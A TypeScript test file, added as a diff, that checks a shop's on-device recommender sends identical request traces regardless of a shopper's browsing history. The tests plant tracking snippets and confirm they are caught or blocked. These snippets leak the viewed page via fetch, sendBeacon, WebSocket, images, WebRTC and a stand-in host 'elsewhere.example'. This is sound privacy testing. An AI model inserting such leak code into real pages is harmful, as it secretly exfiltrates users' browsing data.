@@ -1,0 +1,218 @@
+import type { Browser } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { launchBrowser } from "./support/browser.ts";
+import { type Outside, startOutside } from "./support/outside.ts";
+import { before as prepend } from "./support/prelude.ts";
+import { type SeenRequest, type Shop, startShop, type Tamper } from "./support/shop.ts";
+import { Shopper } from "./support/shopper.ts";
+import { differences } from "./support/trace.ts";
+
+let shop: Shop;
+let outside: Outside;
+let browser: Browser;
+
+beforeAll(async () => {
+  [shop, outside] = await Promise.all([startShop(), startOutside()]);
+  browser = await launchBrowser(outside.browserArgs(shop.host));
+});
+afterEach(() => shop.tamper(undefined));
+afterAll(async () => {
+  await browser?.close();
+  await Promise.all([shop?.close(), outside?.close()]);
+});
+
+const histories = [
+  {
+    items: ["moss-dome-lamp", "opal-globe-lamp", "foundry-pendant"],
+    queries: ["warm lamp", "brass"],
+    departments: ["lighting"],
+  },
+  {
+    items: ["dune-stoneware-mug", "harbour-mug", "hearth-casserole"],
+    queries: ["teapot", "面碗"],
+    departments: ["kitchen"],
+  },
+] as const;
+type History = (typeof histories)[number];
+
+/** Numbers in [0, 1) that repeat for the same seed. */
+function seeded(seed: number): () => number {
+  let state = seed;
+  return () => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    return state / 2 ** 32;
+  };
+}
+
+/** A shopper's journey: any page, any control, in an order that a seed decides. */
+async function act(
+  shopper: Shopper,
+  { items, queries, departments }: History,
+  actions: number,
+  seed: number,
+): Promise<void> {
+  const random = seeded(seed);
+  const one = <T>(of: readonly T[]): T => of[Math.floor(random() * of.length)] as T;
+  const { page } = shopper;
+  const steps: readonly (() => Promise<unknown>)[] = [
+    () => shopper.goTo(`#/p/${one(items)}`),
+    () => shopper.goTo(`#/p/${one(items)}`),
+    () => shopper.goTo(`#/s/${encodeURIComponent(one(queries))}`),
+    () => shopper.goTo(`#/d/${encodeURIComponent(`category:${one(departments)}`)}`),
+    () => shopper.goTo("#/me"),
+    () => shopper.goTo("#/bag"),
+    () => shopper.goTo("#/"),
+    () =>
+      page
+        .locator("sotto-shelf sotto-card .heart")
+        .first()
+        .click({ timeout: 400 })
+        .catch(() => undefined),
+    () =>
+      page
+        .locator("sotto-shelf .why")
+        .first()
+        .click({ timeout: 400 })
+        .catch(() => undefined),
+    () =>
+      page
+        .getByRole("button", { name: "Less like this" })
+        .first()
+        .click({ timeout: 200 })
+        .catch(() => undefined),
+    () =>
+      page
+        .getByRole("button", { name: "Add to bag" })
+        .click({ timeout: 200 })
+        .catch(() => undefined),
+    () =>
+      page
+        .getByRole("button", { name: one(["中文", "EN"]) })
+        .click({ timeout: 200 })
+        .catch(() => undefined),
+  ];
+  for (let i = 0; i < actions; i++) {
+    await one(steps)();
+    await page.waitForTimeout(15);
+  }
+}
+
+/** What the server and everybody else saw of one whole visit. */
+async function visit(
+  history: History,
+  actions: number,
+  seed: number,
+): Promise<{ trace: readonly SeenRequest[]; outside: readonly string[]; outsideMeter: number; blocked: number }> {
+  shop.forget();
+  outside.reset();
+  const shopper = await Shopper.enter(browser, shop);
+  await shopper.seesShelf();
+  await shopper.choose("on");
+  await act(shopper, history, actions, seed);
+  await shopper.goHome();
+  await settled(shopper);
+  await shopper.ask("search", { text: history.queries[0], language: "en" });
+  await shopper.page.waitForTimeout(400);
+  const meter = await shopper.page.evaluate(() => {
+    const shelf = document.querySelector("sotto-shelf") as unknown as {
+      client: { meter: { read(): { outside: number; blocked: number } } };
+    };
+    return shelf.client.meter.read();
+  });
+  // When a browser asks for the page's icon is its own affair; that it does is the same for everyone.
+  const trace = shop.seen.filter(({ path }) => !path.startsWith("/assets/icon-"));
+  await shopper.leave();
+  return { trace, outside: [...outside.heard], outsideMeter: meter.outside, blocked: meter.blocked };
+}
+
+/** Until the schedule has run to its end: the fuller encoder is ready. */
+async function settled(shopper: Shopper): Promise<void> {
+  const deadline = Date.now() + 30_000;
+  while (Date.now() < deadline) {
+    const { encoder } = await shopper.ask<{ encoder: { state: string; tier?: string } }>("status");
+    if (encoder.state === "ready" && encoder.tier === "full") return;
+    await shopper.page.waitForTimeout(100);
+  }
+  throw new Error("The fuller encoder did not become ready.");
+}
+
+describe("the trace", () => {
+  it("[N1] [N2] [N3] two journeys of 200 actions give the server the same log, and nobody else anything", async () => {
+    const [lamps, kitchen] = [await visit(histories[0], 200, 1), await visit(histories[1], 200, 7)];
+    expect(differences(lamps.trace, kitchen.trace)).toEqual([]);
+    expect(lamps.trace.length).toBeGreaterThan(20);
+    expect([...lamps.outside, ...kitchen.outside]).toEqual([]);
+    expect([lamps.outsideMeter, kitchen.outsideMeter]).toEqual([0, 0]);
+    for (const { path, headers } of lamps.trace) {
+      expect(path).not.toMatch(/lamp|mug|\?/);
+      expect(headers.map((header) => header.toLowerCase())).not.toContain("referer");
+    }
+  });
+
+  /** On every step, code that tells somebody what is looked at. `WHAT` stands for it. */
+  const onEveryPage = (code: string): Tamper =>
+    prepend("index", `addEventListener("hashchange",()=>{const WHAT=encodeURIComponent(location.hash);${code}});`);
+  const onEveryMessage = (script: "engine-worker" | "encoder-worker", code: string): Tamper =>
+    prepend(
+      script,
+      `addEventListener("message",(event)=>{const WHAT=encodeURIComponent(JSON.stringify(event.data)).slice(0,900);${code}});`,
+    );
+
+  const caught: readonly (readonly [name: string, tamper: () => Tamper])[] = [
+    ["fetch in the page", () => onEveryPage("fetch('/leak?'+WHAT)")],
+    ["fetch in the engine worker", () => onEveryMessage("engine-worker", "fetch('/leak?'+WHAT)")],
+    ["sendBeacon", () => onEveryPage("navigator.sendBeacon('/leak',WHAT)")],
+    ["WebSocket", () => onEveryPage("new WebSocket('ws://'+location.host+'/leak?'+WHAT)")],
+    ["an image", () => onEveryPage("new Image().src='/leak?'+WHAT")],
+    ["a conditional header", () => onEveryPage("fetch('/catalogue/manifest.json',{headers:{'If-None-Match':WHAT}})")],
+    [
+      "a service worker's script",
+      () => onEveryPage("navigator.serviceWorker.register('/leak.js?'+WHAT).catch(()=>{})"),
+    ],
+    [
+      "a call between browsers",
+      () =>
+        onEveryPage(
+          `const c=new RTCPeerConnection({iceServers:[{urls:'${outside.stunUrl}'}]});c.createDataChannel(WHAT);c.createOffer().then((o)=>c.setLocalDescription(o))`,
+        ),
+    ],
+  ];
+  it.each(caught)("[N2] a planted leak by %s is caught", async (_, tamper) => {
+    shop.tamper(tamper());
+    const [one, other] = [await visit(histories[0], 6, 3), await visit(histories[1], 6, 3)];
+    expect(differences(one.trace, other.trace).length + one.outside.length).toBeGreaterThan(0);
+  });
+
+  const blocked: readonly (readonly [name: string, tamper: () => Tamper, isSeenByMeter: boolean])[] = [
+    [
+      "fetch in the page to another host",
+      () => onEveryPage("fetch('http://elsewhere.example/leak?'+WHAT).catch(()=>{})"),
+      true,
+    ],
+    ["an image from another host", () => onEveryPage("new Image().src='http://elsewhere.example/leak?'+WHAT"), true],
+    [
+      "fetch in the engine worker to another host",
+      () => onEveryMessage("engine-worker", "fetch('http://elsewhere.example/leak?'+WHAT).catch(()=>{})"),
+      false,
+    ],
+    [
+      "fetch in the encoder worker",
+      () => onEveryMessage("encoder-worker", "fetch('/leak?'+WHAT).catch(()=>{})"),
+      false,
+    ],
+  ];
+  it.each(blocked)("[N4] a planted leak by %s is blocked", async (_, tamper, isSeenByMeter) => {
+    shop.tamper(tamper());
+    const [one, other] = [await visit(histories[0], 6, 3), await visit(histories[1], 6, 3)];
+    expect([...one.outside, ...other.outside]).toEqual([]);
+    expect(differences(one.trace, other.trace)).toEqual([]);
+    expect(one.trace.some(({ path }) => path.startsWith("/leak"))).toBe(false);
+    if (isSeenByMeter) expect(one.blocked).toBeGreaterThan(0);
+  });
+
+  it("[N5] the meter is seen to move when something leaves the schedule", async () => {
+    shop.tamper(onEveryPage("fetch('/leak?'+WHAT)"));
+    const { outsideMeter } = await visit(histories[0], 6, 3);
+    expect(outsideMeter).toBeGreaterThan(0);
+  });
+});
